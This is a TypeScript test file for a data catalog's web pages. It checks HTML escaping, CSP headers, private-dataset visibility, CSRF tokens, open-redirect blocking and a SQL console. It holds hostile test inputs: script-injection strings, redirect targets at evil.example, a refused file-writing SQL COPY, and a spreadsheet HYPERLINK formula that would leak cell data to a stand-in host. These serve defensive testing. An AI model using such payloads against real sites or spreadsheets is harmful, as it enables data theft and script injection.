import test from 'ava';
import { until } from '../helpers/app.ts';
import type { Auth } from '../helpers/client.ts';
import { HOSTILE_TITLE, loadWebFixtures, STATIONS_CSV, type WebFixtures } from './fixtures.ts';

/**
 * The web catalog over HTTP, as a browser without JavaScript sees it: each page, its escaping, its
 * security headers, the REST visibility rule on every page, and the CSRF token on every form.
 * test/web/browser.test.ts drives the same pages in Chromium.
 */

let fx: WebFixtures;
test.before(async () => {
  fx = await loadWebFixtures('webp');
});
test.after.always(async () => fx?.app.stop());

const page = (path: string, auth: Auth = {}) => fx.app.api.get(path, { ...auth, headers: { Accept: 'text/html', ...auth.headers } });

test('the home page lists recent public datasets, organizations and a search box, with a strict CSP', async (t) => {
  const reply = await page('/');
  t.is(reply.status, 200);
  t.regex(reply.headers.get('content-type')!, /^text\/html/);
  t.regex(reply.text, /^<!doctype html><html lang="en">/);
  t.true(reply.text.includes(`href="/dataset/${fx.open.name}"`));
  t.true(reply.text.includes(`href="/organization/${fx.org}"`));
  t.true(reply.text.includes('role="search"'));
  const csp = reply.headers.get('content-security-policy')!;
  t.true(csp.includes("default-src 'none'") && csp.includes("script-src 'self'") && csp.includes("frame-ancestors 'none'"));
  t.is(reply.headers.get('cache-control'), 'private, no-store');
});

test('search finds by keywords, highlights the words, shows facets and keeps filters in the URL', async (t) => {
  const reply = await page('/dataset?q=gauging');
  t.is(reply.status, 200);
  t.true(reply.text.includes(`href="/dataset/${fx.open.name}"`));
  t.true(reply.text.includes('<mark>gauging</mark>'), 'the matched word is highlighted');
  t.true(reply.text.includes(`href="/dataset?q=gauging&amp;organization=${fx.org}"`), 'a facet link adds its filter to the URL');
  const filtered = await page(`/dataset?q=gauging&tags=no-such-tag`);
  t.true(filtered.text.includes('No dataset matches.'));
  t.true(reply.text.includes('href="/api/v1/packages?q=gauging"'), 'the JSON twin of the page');
});

test('the dataset page renders Markdown safely and escapes every stranger text, in body, title and JSON-LD', async (t) => {
  const reply = await page(`/dataset/${fx.hostile.name}`);
  t.is(reply.status, 200);
  t.false(reply.text.includes('<script>alert'), 'no script from the dataset text');
  t.false(/<img[^>]*onerror/i.test(reply.text), 'no raw HTML from the description');
  t.false(reply.text.includes('href="javascript:'), 'no javascript: link');
  t.true(reply.text.includes('<h2>Method</h2>'), 'Markdown headings are rendered');
  t.true(reply.text.includes('<strong>bold</strong>'));
  t.true(reply.text.includes('<a href="https://example.org/about" rel="nofollow ugc noopener">good link</a>'));
  t.true(reply.text.includes('<title>Readings &lt;script>alert(1)&lt;/script> &amp; &quot;quotes&quot; · '));
  const ld = /<script type="application\/ld\+json">(.*?)<\/script>/s.exec(reply.text);
  t.truthy(ld, 'the schema.org block is embedded');
  t.is(JSON.parse(ld![1]!).name, HOSTILE_TITLE);
  t.true(reply.text.includes(`href="/dataset/${fx.hostile.id}.ttl"`), 'a link to its DCAT form');
  t.true(reply.text.includes('href="https://example.org/levels.csv"'));
});

test('a private dataset: its page is a 404 for anonymous visitors and other organizations, shown to members', async (t) => {
  for (const auth of [{}, { cookie: fx.people.outsider.cookie }]) {
    const reply = await page(`/dataset/${fx.secret.name}`, auth);
    t.is(reply.status, 404);
    t.false(reply.text.includes('Secret salaries'));
  }
  const member = await page(`/dataset/${fx.secret.name}`, { cookie: fx.people.member.cookie });
  t.is(member.status, 200);
  t.true(member.text.includes('Secret salaries of rivers'));
  t.false(member.text.includes('application/ld+json'), 'a private dataset carries no public feed');
});

test('private datasets and drafts appear on no page, in no facet or count, for those who may not see them', async (t) => {
  const paths = ['/', '/dataset', '/dataset?q=rivers', `/organization/${fx.org}`, '/organization'];
  for (const auth of [{}, { cookie: fx.people.outsider.cookie }] as Auth[]) {
    for (const path of paths) {
      const reply = await page(path, auth);
      t.is(reply.status, 200, path);
      for (const hidden of ['Secret salaries', fx.secret.name, 'classified-tag', fx.draft.name, 'Unfinished rivers draft'])
        t.false(reply.text.includes(hidden), `${path} shows ${hidden}`);
    }
  }
  // Filtering by the private dataset's tag finds nothing (the tag itself is only the visitor's own words).
  t.true((await page('/dataset?tags=classified-tag')).text.includes('No dataset matches.'));
  const orgPage = await page(`/organization/${fx.org}`);
  t.true(orgPage.text.includes('2 datasets'), 'the organization counts only what the visitor may see');
  const asMember = await page(`/organization/${fx.org}`, { cookie: fx.people.member.cookie });
  t.true(asMember.text.includes('3 datasets'));
  t.false((await page(`/dataset/${fx.draft.name}`, { cookie: fx.people.member.cookie })).text.includes('Unfinished rivers draft'));
});

test('login and logout through the forms; a form without its CSRF token is refused', async (t) => {
  const form = await page('/login');
  const token = /name="_csrf" value="([^"]+)"/.exec(form.text)![1]!;
  const csrfCookie = form.headers.get('set-cookie')!.split(';')[0]!;
  const post = (path: string, fields: Record<string, string>, cookie: string) =>
    fetch(fx.app.url + path, {
      method: 'POST',
      redirect: 'manual',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', Cookie: cookie, Origin: fx.app.url },
      body: new URLSearchParams(fields),
    });
  const credentials = { username: fx.people.member.username, password: fx.people.member.password, next: '/organization' };

  const noToken = await post('/login', credentials, csrfCookie);
  t.is(noToken.status, 403);
  t.regex(await noToken.text(), /did not come from this site/);
  t.is((await post('/login', { ...credentials, _csrf: 'x'.repeat(32) }, csrfCookie)).status, 403, 'a token not this browser’s');

  const wrong = await post('/login', { ...credentials, password: 'not-the-password', _csrf: token }, csrfCookie);
  t.is(wrong.status, 401);
  t.regex(await wrong.text(), /role="alert"/);

  const ok = await post('/login', { ...credentials, _csrf: token }, csrfCookie);
  t.is(ok.status, 302);
  t.is(ok.headers.get('location'), '/organization');
  const session = ok.headers.get('set-cookie')!.split(';')[0]!;
  const cookie = `${csrfCookie}; ${session}`;
  const home = await page('/', { cookie });
  t.true(home.text.includes(`Log out ${fx.people.member.username}`));

  t.is((await post('/logout', {}, cookie)).status, 403, 'logout needs the token too');
  t.is((await post('/logout', { _csrf: token }, cookie)).status, 403, 'a token from before the login is not this session’s');
  const sessionToken = /name="_csrf" value="([^"]+)"/.exec(home.text)![1]!;
  t.not(sessionToken, token);
  const out = await post('/logout', { _csrf: sessionToken }, cookie);
  t.is(out.status, 302);
  t.false((await page('/', { cookie })).text.includes('Log out'), 'the session is closed');
});

test('login never sends the visitor to another site after logging in', async (t) => {
  for (const next of ['https://evil.example/', '//evil.example/', '/\\evil.example']) {
    const reply = await page(`/login?next=${encodeURIComponent(next)}`);
    t.true(reply.text.includes('name="next" value="/"'), next);
  }
});

test('an unknown dataset or organization is an HTML 404 page', async (t) => {
  for (const path of ['/dataset/no-such-dataset', '/organization/no-such-org', '/group/no-such-category']) {
    const reply = await page(path);
    t.is(reply.status, 404, path);
    t.regex(reply.headers.get('content-type')!, /^text\/html/);
  }
});

const resourcePage = () => `/dataset/${fx.open.name}/resource/${fx.csv.id}`;

test('the resource page shows the columns with types, nulls, min/max and a histogram, the pipeline steps and the rows', async (t) => {
  const reply = await page(resourcePage());
  t.is(reply.status, 200, reply.text);
  t.true(reply.text.includes('3 columns, 4 rows'));
  t.regex(
    reply.text,
    /<th scope="row">level<\/th><td>float<\/td><td class="num">1<\/td><td class="num">0.5<\/td><td class="num">2.75<\/td>/,
  );
  t.regex(reply.text, /<svg class="histogram"[^>]*aria-label="Distribution of level from 0.5 to 2.75"/);
  t.is((reply.text.match(/<rect /g) ?? []).length, 2 * 12, 'a histogram of 12 bars for station and level');
  t.true(reply.text.includes('Build the typed preview'), 'the pipeline steps');
  t.true(reply.text.includes('<td>Severn</td>'));
  t.true(reply.text.includes('<td class="null">null</td>'));
  t.true(reply.text.includes(`href="/api/v1/resources/${fx.csv.id}/download"`));
  t.is((await page(`/dataset/${fx.hostile.name}/resource/${fx.csv.id}`)).status, 404, 'a resource under another dataset’s name');
});

test('the SQL console runs a query from the URL, shows it as a table and as CSV; errors are the API’s, said plainly', async (t) => {
  const sql = 'SELECT river, COUNT(*) AS n FROM data GROUP BY river ORDER BY n DESC, river';
  const reply = await page(`${resourcePage()}/query?sql=${encodeURIComponent(sql)}`);
  t.is(reply.status, 200);
  t.true(reply.text.includes('3 rows'));
  t.regex(reply.text, /<tr><td>Thames<\/td><td>2<\/td><\/tr>/, 'a count comes as the API gives it: a big integer as text');
  const csv = await fx.app.api.get(`${resourcePage()}/query.csv?sql=${encodeURIComponent(sql)}`);
  t.is(csv.status, 200);
  t.regex(csv.headers.get('content-type')!, /^text\/csv/);
  t.is(csv.text, 'river,n\r\nThames,2\r\nSevern,1\r\nTrent,1\r\n');
  const all = await fx.app.api.get(`${resourcePage()}/query.csv?sql=${encodeURIComponent('SELECT * FROM data ORDER BY station')}`);
  t.is(all.text.replaceAll('\r\n', '\n'), STATIONS_CSV, 'the whole table round-trips');
  const formula = `SELECT '=HYPERLINK("http://evil.example/?"&A1,"x")' AS a, -5 AS n`;
  const crafted = await fx.app.api.get(`${resourcePage()}/query.csv?sql=${encodeURIComponent(formula)}`);
  t.is(
    crafted.text,
    `a,n\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-5\r\n`,
    'a crafted link cannot make a spreadsheet run a formula',
  );

  const refused = await page(`${resourcePage()}/query?sql=${encodeURIComponent("COPY data TO '/tmp/x.csv'")}`);
  t.is(refused.status, 400);
  t.regex(refused.text, /role="alert"/);
  const broken = await page(`${resourcePage()}/query?sql=${encodeURIComponent('SELEC nonsense')}`);
  t.is(broken.status, 400);
  t.true(
    broken.text.includes(`<textarea id="sql" name="sql" rows="6" spellcheck="false" required>SELEC nonsense</textarea>`),
    'the query stays in the box',
  );
});

test('a private dataset’s resource page, console and CSV are 404 for anonymous visitors and other organizations', async (t) => {
  const secret = (await fx.app.api.get(`/api/v1/packages/${fx.secret.id}`, fx.app.sysadmin)).body.resources[0].id as string;
  for (const auth of [{}, { cookie: fx.people.outsider.cookie }]) {
    for (const suffix of ['', '/query?sql=SELECT+1', '/query.csv?sql=SELECT+1']) {
      const reply = await page(`/dataset/${fx.secret.name}/resource/${secret}${suffix}`, auth);
      t.is(reply.status, 404, suffix);
      t.false(reply.text.includes('Secret salaries'));
    }
  }
  t.is((await page(`/dataset/${fx.secret.name}/resource/${secret}`, { cookie: fx.people.member.cookie })).status, 200);
});

test('publishing pages: anonymous visitors are sent to log in; a draft form without its CSRF token is refused', async (t) => {
  const reply = await page('/dataset/new');
  t.is(reply.status, 302);
  t.is(reply.headers.get('location'), '/login?next=%2Fdataset%2Fnew');
  const refused = await fetch(`${fx.app.url}/dataset/new`, {
    method: 'POST',
    redirect: 'manual',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded', Cookie: fx.people.outsider.cookie, Origin: fx.app.url },
    body: new URLSearchParams({ title: 'Sneaky', name: 'webp-sneaky', ownerOrg: fx.otherOrg }),
  });
  t.is(refused.status, 403);
  t.is(
    (await fx.app.api.get('/api/v1/packages/webp-sneaky?state=draft', { token: fx.people.outsider.token })).status,
    404,
    'nothing was created',
  );
  t.is((await page(`/dataset/${fx.draft.name}/edit`, { cookie: fx.people.outsider.cookie })).status, 404, 'another organization’s draft');
  // The form offers only the organizations the caller may publish in: an editor's, not a member's.
  const asEditor = await page('/dataset/new', { cookie: fx.people.outsider.cookie });
  t.true(asEditor.text.includes(`<option value="${fx.otherOrg}">`));
  t.false(asEditor.text.includes(`<option value="${fx.org}">`));
  t.false((await page('/dataset/new', { cookie: fx.people.member.cookie })).text.includes(`<option value="${fx.org}">`));
});

/** A browser's form post: this browser's CSRF cookie and token, its session, this site as Origin. */
async function formSession(cookie = '') {
  const form = await page('/login', { cookie });
  const token = /name="_csrf" value="([^"]+)"/.exec(form.text)![1]!;
  const csrf = form.headers.get('set-cookie')?.split(';')[0];
  const jar = [cookie, csrf].filter(Boolean).join('; ');
  const post = (path: string, fields: Record<string, string>) =>
    fetch(fx.app.url + path, {
      method: 'POST',
      redirect: 'manual',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', Cookie: jar, Origin: fx.app.url },
      body: new URLSearchParams({ _csrf: token, ...fields }),
    });
  return { post, jar };
}

test('my API tokens: created once-shown, usable at once, listed without its secret, revoked for good', async (t) => {
  const me = fx.people.member;
  const { post, jar } = await formSession(me.cookie);
  const created = await post('/account/tokens', { name: 'my script', expiresInDays: '30' });
  t.is(created.status, 201);
  t.is(created.headers.get('cache-control'), 'private, no-store');
  const html = await created.text();
  const secret = /id="new-token" readonly value="([^"]+)"/i.exec(html)?.[1];
  t.truthy(secret, 'the secret is on the page that made it');
  t.is((await fx.app.api.get('/api/v1/users/me', { token: secret! })).body.username, me.username);
  const list = await page('/account/tokens', { cookie: jar });
  t.true(list.text.includes('my script'));
  t.false(list.text.includes(secret!), 'never shown again');
  const id = /action="\/account\/tokens\/([^"/]+)\/revoke"/.exec(list.text.slice(list.text.indexOf('my script')))![1]!;
  t.is((await post(`/account/tokens/${id}/revoke`, {})).status, 302);
  t.is((await fx.app.api.get('/api/v1/users/me', { token: secret! })).status, 401, 'revoked at once');
  t.is((await page('/account/tokens')).status, 302, 'anonymous visitors are sent to log in');
});

test('registration through the form logs the new account in; a taken name is said next to its field', async (t) => {
  const { post } = await formSession();
  const made = await post('/register', { username: 'webp-newcomer', email: 'webp-newcomer@example.org', password: 'a-long-password' });
  t.is(made.status, 302);
  const cookie = made.headers
    .getSetCookie()
    .map((c) => c.split(';')[0])
    .join('; ');
  t.true((await page('/', { cookie })).text.includes('Log out webp-newcomer'));
  const again = await post('/register', { username: 'webp-newcomer', email: 'other@example.org', password: 'a-long-password' });
  t.is(again.status, 409);
  t.regex(await again.text(), /id="username-error"/);
  const short = await post('/register', { username: 'webp-short', email: 'short@example.org', password: 'short' });
  t.is(short.status, 422);
  t.regex(await short.text(), /id="password-error">[^<]*8 characters/);
});

test('editing a published dataset in its page changes the form’s fields and keeps the others', async (t) => {
  const editor = fx.people.outsider;
  const made = await fx.app.api.post(
    '/api/v1/packages',
    { name: 'webp-editable', title: 'Before', ownerOrg: fx.otherOrg, licenseId: 'cc-by-4.0', author: 'Ada', version: '1.2', tags: ['old'] },
    { token: editor.token },
  );
  t.is(made.status, 201, made.text);
  t.true((await page('/dataset/webp-editable', { cookie: editor.cookie })).text.includes('href="/dataset/webp-editable/edit"'));
  t.false((await page('/dataset/webp-editable', { cookie: fx.people.member.cookie })).text.includes('/edit"'), 'no edit link for others');
  const { post } = await formSession(editor.cookie);
  const saved = await post('/dataset/webp-editable/edit', {
    name: 'webp-editable',
    title: 'After',
    notes: '',
    ownerOrg: fx.otherOrg,
    licenseId: 'cc-by-4.0',
    tags: 'new, newer',
  });
  t.is(saved.status, 302);
  t.is(saved.headers.get('location'), '/dataset/webp-editable');
  const record = (await fx.app.api.get('/api/v1/packages/webp-editable')).body;
  t.like(record, { title: 'After', author: 'Ada', version: '1.2', state: 'active' });
  t.deepEqual(record.tags, ['new', 'newer']);
  // A public dataset is seen by anyone, and edited only by its organization's editors.
  const other = await formSession(fx.people.member.cookie);
  const hijack = await other.post('/dataset/webp-editable/edit', { title: 'Hijack', ownerOrg: fx.otherOrg, licenseId: 'cc-by-4.0' });
  t.is(hijack.status, 403);
  t.is((await fx.app.api.get('/api/v1/packages/webp-editable')).body.title, 'After');
});

/** A dataset of the other organization with one uploaded file, once its pipeline has finished: the file's id. */
async function uploadedFile(name: string, file: { name: string; format: string; type: string; body: string }) {
  const admin = fx.app.sysadmin;
  const made = await fx.app.api.post(
    '/api/v1/packages',
    { name, ownerOrg: fx.otherOrg, licenseId: 'cc-by-4.0', resources: [{ name: file.name, urlType: 'upload', format: file.format }] },
    admin,
  );
  const id = made.body.resources[0].id as string;
  const uploaded = await fetch(`${fx.app.url}/api/v1/resources/${id}/upload`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${admin.token}`, 'Content-Type': file.type },
    body: file.body,
  });
  if (!uploaded.ok) throw new Error(`upload: ${uploaded.status} ${await uploaded.text()}`);
  await until('the pipeline finishes', async () =>
    ['succeeded', 'failed'].includes((await fx.app.api.get(`/api/v1/resources/${id}/pipeline-status`)).body.status),
  );
  return id;
}

test('a text file’s resource page shows its start as text, escaped', async (t) => {
  const text = 'Station notes.\nGauges <b>moved</b> in 2021 & recalibrated.\n';
  const id = await uploadedFile('webp-readme', { name: 'README.txt', format: 'TXT', type: 'text/plain', body: text });
  const reply = await page(`/dataset/webp-readme/resource/${id}`);
  t.is(reply.status, 200);
  t.true(reply.text.includes('Text preview'));
  t.true(reply.text.includes('Gauges &lt;b>moved&lt;/b> in 2021 &amp; recalibrated.'), 'the file’s text, as text');
  t.false(reply.text.includes('Query with SQL'), 'not a table');
});

test('a float column with NaN and infinities still gets its page, rows and histogram', async (t) => {
  const body = 'k,v\n1,nan\n2,inf\n3,2.5\n4,-inf\n5,4.5\n';
  const id = await uploadedFile('webp-odd-floats', { name: 'odd.csv', format: 'CSV', type: 'text/csv', body });
  const reply = await page(`/dataset/webp-odd-floats/resource/${id}`);
  t.is(reply.status, 200, reply.text.slice(0, 300));
  t.true(reply.text.includes('<th scope="row">v</th><td>float</td>'), 'the column is a float one, with its histogram');
  t.true(reply.text.includes('Rows 1–5'));
  t.false(reply.text.includes('could not be read'));
  t.is((reply.text.match(/<rect /g) ?? []).length, 2 * 12);
});

test('a CSRF token of the right length in characters but not in bytes is refused, not a crash', async (t) => {
  const form = await page('/login');
  const cookie = form.headers.get('set-cookie')!.split(';')[0]!;
  const reply = await fetch(`${fx.app.url}/login`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded', Cookie: cookie, Origin: fx.app.url },
    body: new URLSearchParams({ _csrf: 'é'.repeat(32), username: 'x', password: 'y' }),
  });
  t.is(reply.status, 403);
});
